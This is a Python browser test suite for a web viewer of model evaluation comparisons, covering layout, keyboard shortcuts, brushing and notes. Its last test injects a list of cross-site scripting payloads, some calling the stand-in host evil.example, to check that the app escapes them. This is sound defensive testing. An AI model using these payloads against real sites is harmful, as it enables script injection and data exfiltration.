"""The view in a real browser: the way from a verdict to a lost question and back, keys, the brush, forms, three widths
in both colours, and foreign texts that are never run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from aftertune.comparison import compare
from aftertune.ledger import EntryLabel, Ledger
from aftertune.values import Answer, Asked, Evaluation, Item, Response, Score
from browser_cases import Watched, chromium, server
from early_cases import STRANGER, settings
from view_cases import demo_ledger

pytestmark = pytest.mark.slow
COMPARISON = "/compare/e-smollm2/e-careless"
PAGES = ("/", "/runs", "/audit", "/entry/e-careful", COMPARISON, f"{COMPARISON}?task=hellaswag&show=lost",
         f"{COMPARISON}?task=orders&show=all")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as opened:
        yield opened


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with server(demo_ledger(tmp_path_factory.mktemp("browser") / "ledger.db")) as where:
        yield where


@pytest.fixture
def watched(browser: Any, address: str) -> Iterator[Watched]:
    page = Watched(browser, address)
    yield page
    page.close()
    assert page.faults == []


@pytest.mark.parametrize(("width", "scheme"), [(390, "light"), (800, "dark"), (1440, "light")])
def test_every_page_fits_its_width_in_both_colours(browser: Any, address: str, width: int, scheme: str) -> None:
    view = Watched(browser, address, viewport={"width": width, "height": 900}, color_scheme=scheme)
    for path in PAGES:
        page = view.open(path)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        shifts = page.evaluate("""() => new Promise(done => { let sum = 0; new PerformanceObserver(list => {
            for (const e of list.getEntries()) if (!e.hadRecentInput) sum += e.value; }).observe(
            {type: 'layout-shift', buffered: true}); setTimeout(() => done(sum), 100); })""")
        assert shifts < 0.02, path
    view.close()
    assert view.faults == []


def test_from_a_verdict_to_a_lost_question_to_the_next_and_back(watched: Watched) -> None:
    page = watched.open("/")
    page.click("text=careless against smollm2")
    page.click("text=Items one by one: >> xpath=.. >> a:has-text('HellaSwag')")
    assert "show=lost" in page.url
    listed = page.url
    page.click(".items-list li:nth-child(2) a")
    second = page.url
    page.click("[data-next]")
    assert page.url != second
    page.go_back()
    assert page.url == second
    page.go_back()
    assert page.url == listed
    assert page.locator(".items-list li").count() > 2


def test_the_keys(watched: Watched) -> None:
    page = watched.open(f"{COMPARISON}?task=hellaswag&show=lost")
    rows = page.locator("[data-row]")
    page.keyboard.press("j")
    page.keyboard.press("j")
    assert "current" in rows.nth(1).get_attribute("class")
    page.keyboard.press("k")
    assert "current" in rows.nth(0).get_attribute("class")
    page.keyboard.press("ArrowDown")
    assert "current" in rows.nth(1).get_attribute("class")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("item="))
    item = page.url
    page.keyboard.press("ArrowRight")
    page.wait_for_url(lambda url: url != item)
    page.keyboard.press("p")
    page.wait_for_url(item)
    page.keyboard.press("?")
    assert page.locator("#keys").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#keys").is_visible()
    page.keyboard.press("g")
    page.keyboard.press("r")
    page.wait_for_url(re.compile("/runs"))
    page.keyboard.press("/")
    page.keyboard.type("careless")
    page.wait_for_url(re.compile("q=careless"))
    page.locator("tbody:has(tr[data-row]:nth-child(3):last-child)").wait_for()
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    assert page.locator(".current").count() == 1


def test_items_are_brushed_and_one_is_opened(watched: Watched) -> None:
    page = watched.open(f"{COMPARISON}?task=hellaswag&show=all")
    box = page.locator("#scatter .u-over").bounding_box()
    page.mouse.move(box["x"] + box["width"] * 0.5, box["y"] + box["height"] * 0.5)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.99, box["y"] + box["height"] * 0.99, steps=5)
    page.mouse.up()
    page.wait_for_url(re.compile("bmin="))
    page.wait_for_load_state("networkidle")
    shown = page.inner_text(".pickbar")
    assert not shown.startswith("400 of 400")
    assert page.input_value("[name=tmax]") != ""
    page.reload(wait_until="networkidle")  # the selection is in the address
    assert page.inner_text(".pickbar") == shown
    page.click("#unbrush")
    page.locator(".pickbar", has_text="400 of 400").wait_for()  # the policy refuses a function that is waited for


def test_two_runs_are_chosen_and_compared(watched: Watched) -> None:
    page = watched.open("/runs?kind=evaluation")
    page.check("[value=e-careful]")
    assert page.is_disabled("[data-compare]")
    page.check("[value=e-smollm2]")
    page.wait_for_selector("text=They can be compared.")
    assert page.is_disabled("[value=e-careless]")
    page.click("[data-compare]")
    page.wait_for_url(re.compile("/compare/e-smollm2/e-careful"))


def test_tags_notes_and_colours_are_kept(watched: Watched) -> None:
    page = watched.open("/entry/e-careless")
    page.fill("[name=add]", "paper")
    page.click("button:text-is('Add')")
    page.wait_for_selector("text=#paper")
    page.fill("[name=note]", "a <b>note</b>")
    page.click("text=Save note")
    page.wait_for_selector(".note-text")
    assert page.inner_text(".note-text") == "a <b>note</b>"
    before = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.click("#theme")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != before
    page.goto(f"{watched.address}/runs")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != before


#: Items of each task with hostile texts.
ITEMS = 20
#: N stands for a number.
PAYLOADS = [
    "<img src=x onerror=alert(N)>", "\"><script>alert(N)</script>", "'><svg/onload=alert(N)>",
    "<iframe src=javascript:alert(N)>", "</textarea><script>alert(N)</script>", "</script><script>alert(N)</script>",
    "javascript:alert(N)", "{{constructor.constructor('alert(N)')()}}", "<body onload=alert(N)>",
    "<a href=javascript:alert(N) autofocus onfocus=alert(N)>x", "<style>@import 'http://evil.example/N'</style>",
    "<link rel=stylesheet href=http://evil.example/N>", "<img src=http://evil.example/N>",
    "<math><mtext><img src=x onerror=alert(N)></mtext></math>", "<details open ontoggle=alert(N)>",
    "<div hx-get=http://evil.example/N hx-trigger=load>x</div>", "<div hx-on:click=alert(N) data-row data-open>x</div>",
    "<base href=http://evil.example/N/>", "<meta http-equiv=refresh content='0;url=http://evil.example/N'>",
    "]]><!--<script>alert(N)</script>", "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "&lt;script&gt;alert(N)&lt;/script&gt;", "<object data=http://evil.example/N></object>",
    "<form action=http://evil.example/N><button>x</button></form>", "\u202e<script>alert(N)</script>"]


def hostile_ledger(path: Path) -> tuple[Path, int]:
    """A ledger whose texts, answers, names, tags and notes are payloads; and how many there are."""
    count = iter(range(10_000))

    def payload() -> str:
        number = next(count)
        return PAYLOADS[number % len(PAYLOADS)].replace("N", str(number))

    with Ledger(path) as ledger:
        made = []
        asked = [Asked(question=payload(), choices=tuple(payload() for _ in range(3)), gold=(0,)) for _ in range(ITEMS)]
        texts = [Asked(question=payload(), reference=payload()) for _ in range(ITEMS)]
        for side in range(2):
            items, answers = [], []
            for task, questions in (("choose", asked), ("write <b>", texts)):
                for index, question in enumerate(questions):
                    right = (index + side) % 2
                    items.append(Item(task=task, index=index, hash=f"{task} {index}", doc={}, asked=question,
                                      cluster=question.question))
                    responses = tuple(Response(logprob=-1.0 - (k != (0 if right else 1))) for k in range(3)) \
                        if question.choices else (Response(text=payload(), finish="eos"),)
                    answers.append(Answer(task=task, index=index, item=items[-1].hash, responses=responses,
                                          metrics={"acc,none": float(right)}, extracted={} if question.choices else
                                          {"none": payload()}))
            tasks = tuple(settings(t, ITEMS, output_type=kind) for t, kind in (("choose", "multiple_choice"),
                                                                            ("write <b>", "generate_until")))
            evaluation = Evaluation(
                id=f"e-{side}{'0' * 8}", name=payload(), tasks=tasks, device="cpu", dtype="float32", engine="packed",
                model=replace(STRANGER, source=payload(), weights=f"w{side}"),
                scores=tuple(Score(task=t.task, metric="acc", filter="none", value=0.5, stderr=0.1, n=ITEMS,
                                   primary=True)
                             for t in tasks))
            made.append(ledger.store_evaluation(evaluation, zip(items, answers, strict=True)))
            ledger.save_label(evaluation.id, EntryLabel(tags=(payload(), payload()), note=payload()))
        comparison = compare(*made, ledger=ledger)
        ledger.save_label(comparison.id, EntryLabel(tags=(payload(),), note=payload()))
    return path, next(count)


def test_foreign_texts_are_never_run_and_no_request_leaves(browser: Any, tmp_path: Path) -> None:
    path, payloads = hostile_ledger(tmp_path / "ledger.db")
    assert payloads >= 200
    with server(path) as where:
        view = Watched(browser, where)
        pair = "/compare/e-000000000/e-100000000"
        addresses = ["/", "/runs", "/entry/e-000000000", "/entry/e-100000000", pair,
                     *(f"{pair}?task={task}&show=all{more}" for task in ("choose", "write+<b>")
                       for more in ("", *(f"&item={task}:{n}" for n in range(12))))]
        for address in addresses:
            page = view.open(address)
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            assert page.locator("main").count() == 1, address
            assert page.evaluate("[...document.scripts].every(s => s.src.startsWith(location.origin))")
            assert page.locator("iframe, object, embed, base, main style, main img").count() == 0
        view.close()
    assert view.faults == []
